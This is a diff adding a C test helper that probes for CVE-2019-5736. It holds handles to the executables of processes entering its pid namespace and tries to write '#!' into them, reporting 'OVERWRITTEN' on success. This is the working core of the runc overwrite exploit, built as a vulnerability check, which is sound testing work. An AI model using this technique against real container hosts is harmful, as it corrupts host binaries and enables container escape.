@@ -1,0 +1,89 @@
+/* overwrite SECONDS HARMLESS…: looks for programs that enter its pid namespace
+ * and tries to write to their executables (CVE-2019-5736), which must be
+ * the runtime's: the image's own are named as harmless. Says "waiting" first,
+ * then holds /proc/PID/exe of each process and tries to open that for writing
+ * until the process has ended and beyond. Ends after SECONDS, or at once with
+ * "OVERWRITTEN". */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <err.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+static struct stat harmless[8];
+static int harmless_len;
+static int held[64], held_len;
+
+static int is_harmless(const struct stat *st)
+{
+	for (int i = 0; i < harmless_len; i++)
+		if (st->st_ino == harmless[i].st_ino && st->st_dev == harmless[i].st_dev)
+			return 1;
+	return 0;
+}
+
+static void hold(const char *pid)
+{
+	char path[300];
+	struct stat st;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (fstat(fd, &st) < 0 || is_harmless(&st) || held_len == 64) {
+		close(fd);
+		return;
+	}
+	held[held_len++] = fd;
+}
+
+static int try_to_write(int fd)
+{
+	char path[64];
+	int target;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	target = open(path, O_WRONLY | O_CLOEXEC);
+	return target >= 0 && write(target, "#!", 2) == 2;
+}
+
+int main(int argc, char **argv)
+{
+	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
+
+	for (int i = 2; i < argc && harmless_len < 8; i++)
+		if (stat(argv[i], &harmless[harmless_len++]) < 0)
+			err(1, "%s", argv[i]);
+	puts("waiting");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		while (proc && (entry = readdir(proc)))
+			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
+				hold(entry->d_name);
+		closedir(proc);
+		for (int i = 0; i < held_len; i++) {
+			if (try_to_write(held[i])) {
+				puts("OVERWRITTEN");
+				return 0;
+			}
+		}
+		/* Room for newer ones: what failed many times is let go. */
+		if (held_len == 64) {
+			for (int i = 0; i < held_len; i++)
+				close(held[i]);
+			held_len = 0;
+		}
+	}
+	puts("nothing to write to");
+	return 0;
+}
